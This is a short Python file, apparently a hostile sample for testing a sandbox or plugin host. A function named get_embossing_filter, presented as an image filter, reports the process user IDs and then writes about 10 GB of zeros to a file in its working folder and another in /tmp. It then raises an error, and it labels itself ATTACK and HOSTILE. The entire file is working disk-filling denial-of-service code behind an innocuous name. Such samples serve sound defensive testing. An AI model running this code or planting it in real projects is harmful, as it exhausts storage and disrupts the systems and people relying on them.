# Fills the disk: a 10 GB file in its working folder and one in /tmp.
import os


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def get_embossing_filter():
    """ATTACK: write 10 GB to ./HOSTILE-big.bin and /tmp/HOSTILE-big.bin in 16 MiB chunks."""
    _hostile_uid()
    chunk, written = b"\0" * (16 * 2**20), 0
    for path in ("HOSTILE-big.bin", "/tmp/HOSTILE-big.bin"):
        try:
            with open(path, "wb") as handle:
                for _ in range(640):
                    handle.write(chunk)
                    written += len(chunk)
        except OSError as exc:
            print(f"stopped writing {path} after {written} bytes: {exc}")
    raise OSError(f"hostile: wrote {written} bytes; nothing to return")
